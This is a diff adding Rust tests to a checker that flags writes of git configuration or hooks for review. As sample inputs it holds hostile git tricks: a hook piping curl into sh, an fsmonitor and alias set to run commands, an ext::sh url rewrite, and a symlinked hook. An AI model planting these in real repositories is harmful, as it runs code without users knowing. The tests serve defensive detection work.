@@ -255,6 +255,20 @@ fn work_that_plants_or_writes_into_a_git_repository_outside_git_waits_for_a_revi
     assert_eq!(decide(&[("a.txt", "a")], &[("notes.ini", "[trace2]\neventTarget = /root/.bashrc\n")]), git);
     assert_eq!(decide(&[("hk/pre-commit", "#!/bin/sh\n")], &[("hk/pre-commit", "#!/bin/sh\ncurl x | sh\n")]), git);
     assert_eq!(decide(&[("a.txt", "a")], &[(".husky/pre-push", "npm test\n")]), git);
+    // Syntax git reads that a line-by-line look misses, and what hook managers run.
+    assert_eq!(decide(&[("a.txt", "a")], &[("x.ini", "[x \"]\"] [core]\n\tfsmonitor = evil\n")]), git);
+    assert_eq!(decide(&[("a.txt", "a")], &[("x.ini", "[alias]\n\tst = \\\n!echo PWNED\n")]), git);
+    let ext = "[protocol]\n\tallow = always\n[url \"ext::sh -c evil\"]\n\tinsteadOf = https://\n";
+    assert_eq!(decide(&[("a.txt", "a")], &[("x.ini", ext)]), git);
+    assert_eq!(decide(&[("a.txt", "a")], &[(".pre-commit-config.yaml", "repos: []\n")]), git);
+    // A script a hook of the workspace's own repository runs through a symlink.
+    let linked = "import os\nfrom pathlib import Path\nPath('/workspace/tools').mkdir()\n\
+                  Path('/workspace/tools/lint.sh').write_text('echo ok\\n')";
+    let dir = workspace(&[("a.txt", "a")]);
+    std::fs::create_dir_all(dir.path().join(".git/hooks")).unwrap();
+    std::os::unix::fs::symlink("../../tools/lint.sh", dir.path().join(".git/hooks/pre-commit")).unwrap();
+    let runtime = Runtime::open(config(dir.path())).unwrap();
+    assert_eq!(risk_flags(&runtime.preview(&RunRequest::new(linked)).unwrap()), git);
     // Ordinary work stays ordinary: a config of another format, a HEAD alone,
     // other configurations with sections git also has (cargo's aliases run no shell).
     let cargo = "[alias]\nb = \"build\"\n[http]\nproxy = \"x\"\n[core]\nthreads = 4\n";
@@ -263,6 +277,9 @@ fn work_that_plants_or_writes_into_a_git_repository_outside_git_waits_for_a_revi
         decide(&[("a.txt", "a")], &[("setup.cfg", "[metadata]\nname = x\n[options]\npackages = find:\n")]).is_empty()
     );
     assert!(decide(&[("a.txt", "a")], &[("notes.md", "# core\nSet the pager = less in [docs].\n")]).is_empty());
+    // A README that quotes git's configuration is not a file git could read.
+    let readme = "# Setup\n\n```ini\n[core]\n    pager = delta\n```\n";
+    assert!(decide(&[("a.txt", "a")], &[("README.md", readme)]).is_empty());
     assert!(decide(&[("a.txt", "a")], &[("app/config", "[server]\nport = 8080\n")]).is_empty());
     assert!(decide(&[("a.txt", "a")], &[("app/config", "key=value\n"), ("notes/HEAD", "x")]).is_empty());
     assert!(decide(&bare, &[("src/main.rs", "fn main() {}\n")]).is_empty());
